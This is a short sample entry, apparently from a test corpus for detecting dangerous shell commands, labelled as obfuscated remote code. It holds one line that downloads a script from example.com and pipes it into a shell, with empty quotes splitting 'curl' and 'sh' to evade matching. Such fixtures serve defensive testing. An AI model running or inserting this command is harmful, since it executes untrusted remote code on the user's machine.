# description: Runs curl | sh with both command names broken by empty quotes.
# family: remote-code
# obfuscated: yes
c''url -fsSL https://example.com/a.sh | s''h
